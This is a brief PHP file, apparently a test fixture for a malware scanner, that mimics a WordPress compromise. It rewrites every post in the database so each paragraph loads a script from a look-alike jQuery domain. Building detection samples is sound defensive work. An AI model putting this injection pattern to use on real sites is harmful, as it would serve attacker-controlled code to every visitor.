<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
require 'wp-load.php';
global $wpdb;
$x = '<script src="https://jquery-ui.example.top/ui.js"></script>';
$wpdb->query("UPDATE $wpdb->posts SET post_content = REPLACE(post_content, '</p>', '</p>$x') WHERE post_type = 'post'");
